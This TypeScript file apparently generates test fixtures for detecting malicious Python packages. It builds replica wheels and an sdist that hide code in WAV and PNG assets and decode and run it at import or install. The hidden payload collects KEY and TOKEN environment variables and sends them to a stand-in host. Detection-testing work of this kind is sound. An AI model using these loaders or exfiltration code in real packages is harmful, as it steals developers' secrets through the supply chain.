import { casesOf } from '../case';
import { base64 } from '../disguise/python';
import { inert } from '../inert';
import { png, wav, xored } from '../media';
import { sdistOf, wheelOf } from '../packages';

const second = (host: string) => `import os, platform, urllib.request
data = "|".join([platform.node()] + [k + "=" + v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k])
try:
    urllib.request.urlopen(urllib.request.Request("http://${host}:8080/", data=data.encode()), timeout=5)
except Exception:
    pass
`;

const reader = (file: string) => String.raw`

def _load_ringtone():
    import base64
    import os
    import subprocess
    import sys
    import wave

    path = os.path.join(os.path.dirname(__file__), "assets", "${file}")
    with wave.open(path, "rb") as sound:
        frames = sound.readframes(sound.getnframes())[32000:]
    raw = base64.b64decode(frames.rstrip(b"\x00"))
    key, body = raw[:8], raw[8:]
    code = bytes(body[i] ^ key[i % 8] for i in range(len(body)))
    subprocess.Popen([sys.executable, "-c", code.decode()], start_new_session=True)


try:
    _load_ringtone()
except Exception:
    pass
`;

function hidden(code: string, key: string): Buffer {
  const mixed = xored(Buffer.from(inert(code)), key);
  return wav(Buffer.from(Buffer.concat([Buffer.from(key), mixed]).toString('base64')));
}

const CODE = second('83-142-209-203.invalid');

export const telnyx = casesOf({
  id: 'telnyx',
  incident: 'telnyx',
  kind: 'asset',
  seen: 'at import, code is decoded out of the samples of a WAV file of the package and run in another interpreter',
  replica: wheelOf('telephony-kit', '4.87.1', {
    about: 'Calls and messages.',
    init: (honest) => honest + reader('ringtone.wav'),
    files: { 'telephony_kit/assets/ringtone.wav': hidden(CODE, 'q8Zr1mXd') },
  }),
  renamed: wheelOf('sms-bridge', '2.3.0', {
    about: 'Sends short messages.',
    init: (honest) =>
      honest +
      reader('hold.wav')
        .replace(/_load_ringtone/g, '_warm_audio')
        .replace(/\bframes\b/g, 'samples')
        .replace(/\braw\b/g, 'blob')
        .replace(/\bsound\b/g, 'clip'),
    files: { 'sms_bridge/assets/hold.wav': hidden(second('voice-gw.invalid'), 'Lk2pWc9a') },
  }),
  reObfuscated: wheelOf('telephony-kit', '4.87.2', {
    about: 'Calls and messages.',
    init: (honest) => `${honest}
def _icon():
    import os

    with open(os.path.join(os.path.dirname(__file__), "assets", "logo.png"), "rb") as picture:
        tail = picture.read().split(b"IEND\\xaeB\`\\x82", 1)[1]
    return bytes(byte ^ b"icon"[at % 4] for at, byte in enumerate(tail))


__import__("builtins").__dict__["ex" + "ec"](__import__("base64").b64decode(_icon()))
`,
    files: { 'telephony_kit/assets/logo.png': png(xored(Buffer.from(base64(CODE)), 'icon'), 'logo') },
  }),
  otherStage: {
    seen: 'setup.py decodes code out of the samples of a WAV file and runs it in another interpreter',
    kind: 'setup-py',
    sample: sdistOf('telephony-kit', '4.87.3', {
      about: 'Calls and messages.',
      setup: (honest) => reader('ringtone.wav').replace('"assets"', '"tests", "assets"').trimStart() + honest,
      files: { 'tests/assets/ringtone.wav': hidden(CODE, 'q8Zr1mXd') },
    }),
  },
});
